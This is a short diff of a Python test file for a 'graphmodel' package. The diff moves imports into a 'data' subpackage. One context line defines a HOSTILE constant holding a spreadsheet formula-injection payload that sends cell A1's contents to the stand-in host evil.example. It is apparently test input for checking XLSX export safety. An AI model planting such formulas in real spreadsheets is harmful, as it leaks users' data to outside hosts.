@@ -11,11 +11,11 @@ import pandas as pd
 import pytest
 from conftest import tiny_files
 
-from graphmodel import read
+from graphmodel.data import read
+from graphmodel.data.export import to_xlsx
+from graphmodel.data.load import load, save
+from graphmodel.data.model import Model
 from graphmodel.errors import SpecError, ValidationError
-from graphmodel.export import to_xlsx
-from graphmodel.load import load, save
-from graphmodel.model import Model
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
